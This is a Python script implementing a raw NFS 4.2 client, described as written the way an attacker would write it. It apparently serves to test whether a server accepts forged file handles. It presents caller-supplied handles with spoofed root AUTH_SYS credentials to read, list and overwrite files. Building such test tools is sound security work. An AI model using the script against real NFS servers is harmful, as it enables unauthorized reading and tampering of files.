#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""An NFS 4.2 client as an attacker would write it (RFC 8881, RFC 7862): it says which handles it likes.

    nfs_wire.py ADDRESS PORT root N [NAME...] the handle of /vol/N, or of what is below it, in hex
    nfs_wire.py ADDRESS PORT read HANDLE      what a file with this handle holds, or "status N"
    nfs_wire.py ADDRESS PORT write HANDLE     writes to it: "written", or "status N"
    nfs_wire.py ADDRESS PORT list HANDLE      the first entries of a directory, raw, or "status N"
"""

import os
import socket
import struct
import sys

PROGRAM, VERSION, COMPOUND = 100003, 4, 1
GETFH, LOOKUP, PUTFH, PUTROOTFH, READ, READDIR, WRITE = 10, 15, 22, 24, 25, 26, 38
EXCHANGE_ID, CREATE_SESSION, SEQUENCE, RECLAIM_COMPLETE = 42, 43, 53, 58
SEQUENCE_RESULT_LEN = 8 + 16 + 5 * 4


def opaque(data):
    return struct.pack(">I", len(data)) + data + bytes(-len(data) % 4)


def words(*values):
    return struct.pack(f">{len(values)}I", *values)


class Refused(Exception):
    """An operation's status that is not NFS4_OK."""


class Client:
    """A session with one slot."""

    def __init__(self, address, port):
        self.sock = socket.create_connection((address, port), timeout=25)
        self.xid = 0
        self.sequence = 0
        owner = words(EXCHANGE_ID) + os.urandom(8) + opaque(b"forger") + words(0, 0, 0)
        clientid, seqid = struct.unpack_from(">QI", self._compound([owner]), 8)
        channel = words(0, 65536, 65536, 4096, 16, 4, 0)
        create = (words(CREATE_SESSION) + struct.pack(">QII", clientid, seqid, 0) + channel + channel +
                  words(0x40000000, 1, 0))
        self.session = self._compound([create])[8:24]
        self.run(words(RECLAIM_COMPLETE, 0))

    def _record(self):
        out = b""
        while True:
            mark, = struct.unpack(">I", self._bytes(4))
            out += self._bytes(mark & 0x7fffffff)
            if mark >> 31:
                return out

    def _bytes(self, n):
        out = b""
        while len(out) < n:
            data = self.sock.recv(n - len(out))
            if not data:
                raise ConnectionError("the server hung up")
            out += data
        return out

    def _compound(self, operations):
        """The results of all of them; Refused if the last one failed."""
        self.xid += 1
        cred = words(0) + opaque(b"forger") + words(0, 0, 0)
        call = (words(self.xid, 0, 2, PROGRAM, VERSION, COMPOUND, 1) + opaque(cred) + words(0, 0) +
                opaque(b"") + words(2, len(operations)) + b"".join(operations))
        self.sock.sendall(words(0x80000000 | len(call)) + call)
        reply = self._record()
        # xid, reply, accepted, verifier of no length, success
        xid, kind, state, _, verifier_len, accepted = struct.unpack_from(">6I", reply)
        if (xid, kind, state, verifier_len, accepted) != (self.xid, 1, 0, 0, 0):
            raise ConnectionError(f"not an accepted call: {reply.hex()}")
        status, tag_len = struct.unpack_from(">2I", reply, 24)
        if status:
            raise Refused(status)
        return reply[24 + 8 + tag_len + -tag_len % 4 + 4:]

    def run(self, *operations):
        """Results behind that of the SEQUENCE."""
        self.sequence += 1
        sequence = words(SEQUENCE) + self.session + words(self.sequence, 0, 0, 0)
        return self._compound([sequence, *operations])[SEQUENCE_RESULT_LEN:]

    def root(self, *names):
        path = [words(LOOKUP) + opaque(name.encode()) for name in ("vol", *names)]
        result = self.run(words(PUTROOTFH), *path, words(GETFH))
        at = (1 + len(path)) * 8 + 8
        length, = struct.unpack_from(">I", result, at)
        return result[at + 4:at + 4 + length]

    def read(self, handle):
        anonymous = bytes(16)
        result = self.run(words(PUTFH) + opaque(handle),
                          words(READ) + anonymous + struct.pack(">QI", 0, 4096))
        length, = struct.unpack_from(">I", result, 8 + 8 + 4)
        return result[24:24 + length]

    def write(self, handle):
        anonymous, file_sync = bytes(16), 2
        self.run(words(PUTFH) + opaque(handle),
                 words(WRITE) + anonymous + struct.pack(">QI", 0, file_sync) + opaque(b"forged"))
        return b"written"

    def list(self, handle):
        return self.run(words(PUTFH) + opaque(handle),
                        words(READDIR) + bytes(16) + words(4096, 32768, 0))


def main():
    client = Client(sys.argv[1], int(sys.argv[2]))
    try:
        if sys.argv[3] == "root":
            print(client.root(*sys.argv[4:]).hex())
        else:
            done = getattr(client, sys.argv[3])(bytes.fromhex(sys.argv[4]))
            print(done.decode(errors="replace"))
    except Refused as refused:
        print(f"status {refused}")


if __name__ == "__main__":
    main()
